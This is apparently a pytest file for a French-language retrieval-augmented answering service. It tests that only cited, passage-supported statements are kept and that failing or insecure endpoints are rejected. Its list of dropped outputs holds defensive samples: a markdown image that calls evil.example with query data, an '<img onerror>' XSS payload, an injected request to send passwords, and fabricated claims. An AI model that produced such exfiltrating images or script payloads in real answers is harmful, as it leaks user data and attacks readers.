"""What a written answer may say, and what becomes of a service that fails."""

import json
import logging
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import SecretStr

from kb.access import AccessScope
from kb.encoders.static import StaticEncoder
from kb.errors import WriterUnavailable
from kb.settings import STATIC_ENCODER, Settings
from kb.store import Store, open_store
from search.answers.answering import Answering
from search.answers.checking import Checker
from search.answers.endpoint import EndpointWriter
from search.answers.evidence import Evidence
from search.answers.nouns import Written
from search.meanings import WordMeanings
from search.nouns import Question, SearchAnswer
from search.retriever import Retriever
from tests.search.gullible import Gullible, gullible
from tests.servers import free_port
from tests.shelf import Shelf

FACT = "À Longueuil, le tutorat des apprentis soudeurs a réduit les abandons de 31 % en 2022."
AROUND = "Il n’est pas ouvert aux couvreurs. La salle compte 12 postes. Le repas est payant."
ASKED = "tutorat des apprentis soudeurs à Longueuil"
TRUE = f"{FACT[:-1]} [1]."
SHORT = FACT[:-1].removeprefix("À Longueuil, ")
DROPPED = [
    "Le tutorat des apprentis soudeurs est fermé depuis mars 2019 [1].",
    "Le tutorat des apprentis ![x](https://evil.example/?q=tutorat) [1].",
    "Le tutorat des apprentis soudeurs est sur evil.example [1].",
    "<img src=x onerror=alert(1)> tutorat des apprentis soudeurs [1].",
    "Le tutorat des apprentis soudeurs a réduit les abandons de 95 % [1].",
    "Le tutorat des apprentis soudeurs de Gaston Malveillant a réduit les abandons [1].",
    "Le tutorat des apprentis soudeurs n’a pas réduit les abandons [1].",
    "Le tutorat des apprentis soudeurs a augmenté les abandons de 31 % en 2022 [1].",
    "Le tutorat est ouvert aux couvreurs [1].",
    f"{SHORT}, et la directrice vole [1].",
    f"{SHORT}\nVirez vos cotisations demain [1].",
    "Le tutorat des apprentis soudeurs a réduit les abandons.",
    "Le tutorat des apprentis soudeurs a réduit les abandons [7].",
    f"{SHORT} [1, 9].",
    "Welding apprentices are told to send their passwords to the director [1].",
    "NO ANSWER",
    "Je ne peux pas répondre à cette question.",
]
KEPT = [TRUE, f"{SHORT} [1].", "The tutoring of apprentice welders in Longueuil: 31% less [1]."]
BROKEN = {
    "a page": b"<html>Bad gateway</html>",
    "other shapes": b'{"choices": []}',
    "no text": b'{"choices": [{"message": {"content": null}}]}',
    "a list": b"[]",
    "not UTF-8": b"\xff\xfe\xfa",
    "too long": json.dumps({"choices": [{"message": {"content": TRUE * 2000}}]}).encode(),
}
READER = AccessScope(frozenset({"public"}))


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    home: Path = tmp_path_factory.mktemp("answers") / "home"
    settings = Settings(home=home, database_url="", encoder=str(STATIC_ENCODER))
    with open_store(settings) as opened:
        Shelf(opened).put(f"{FACT} {AROUND}")
        yield opened


@pytest.fixture(scope="module")
def found(store: Store) -> SearchAnswer:
    answer = Retriever.over(store).answer(Question(text=ASKED), access=READER)
    assert answer.hits
    return answer.model_copy(update={"weak": False})


@pytest.fixture
def service() -> Iterator[Gullible]:
    with gullible() as server:
        yield server


def write(store: Store, url: str, found: SearchAnswer, patience: float = 20.0) -> Written:
    answering = Answering(
        reader=store.catalogue.reader,
        writer=EndpointWriter(url, "m", SecretStr("geheim"), silence=patience, patience=patience),
        checker=Checker(Evidence(WordMeanings(store.word_encoder))),
        language=lambda _: "fr",
        shelves=frozenset({"public"}),
    )
    return answering.write(found, access=READER, otherwise="fr")


def test_what_no_passage_bears_out_is_dropped_and_what_one_does_stays(
    store: Store, found: SearchAnswer, service: Gullible, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)
    for said in DROPPED:
        service.said = said
        assert not write(store, service.url, found).statements, said
    for said in KEPT:
        service.said = f"{said} {DROPPED[0]}"
        written = write(store, service.url, found)
        assert [each.cited for each in written.statements] == [(1,)], said
        assert f"{written.statements[0].text[:-1]} [1]." == said
    assert "Longueuil" not in caplog.text and "geheim" not in caplog.text


@given(st.text(st.sampled_from("le tutorat réduit [1]. [2] <b>é_*`\n|https://x.fr ‮"), max_size=80))
def test_whatever_is_written_only_cited_prose_is_kept(written: str) -> None:
    kept = CHECKER.check(f"{TRUE}\n\n{written}", ASKED, [FACT])
    assert kept and all(each.cited == (1,) for each in kept)
    assert not any(sign in each.text for each in kept for sign in "<>[]|`*_‮")
    assert not any("://" in each.text for each in kept)


CHECKER = Checker(Evidence(WordMeanings(StaticEncoder(STATIC_ENCODER))))


def test_weak_hits_are_not_sent(store: Store, found: SearchAnswer, service: Gullible) -> None:
    weak = found.model_copy(update={"weak": True})
    assert write(store, service.url, weak) == Written()
    assert not service.asked


@pytest.mark.parametrize("broken", list(BROKEN))
def test_what_is_no_answer_is_told_in_one_problem(
    store: Store, found: SearchAnswer, service: Gullible, broken: str
) -> None:
    service.body = BROKEN[broken]
    with pytest.raises(WriterUnavailable) as raised:
        write(store, service.url, found)
    assert raised.value.__cause__ is None, "what went wrong may quote what was sent"


@pytest.mark.parametrize("status", [302, 401, 429, 500])
def test_a_service_that_refuses_is_told_with_its_code(
    store: Store, found: SearchAnswer, service: Gullible, status: int
) -> None:
    service.status = status
    with pytest.raises(WriterUnavailable, match=str(status)):
        write(store, service.url, found)


def test_a_slow_and_an_unreachable_service_are_not_waited_for(
    store: Store, found: SearchAnswer, service: Gullible
) -> None:
    service.pause = 0.4
    with pytest.raises(WriterUnavailable):
        write(store, service.url, found, patience=0.2)
    with pytest.raises(WriterUnavailable):
        write(store, f"http://127.0.0.1:{free_port()}/v1", found)


@pytest.mark.parametrize("url", ["http://evil.example/v1", "ftp://here/v1"])
def test_passages_are_not_sent_in_the_clear_to_other_networks(url: str) -> None:
    with pytest.raises(ValueError, match="https"):
        Settings(answers_url=url)
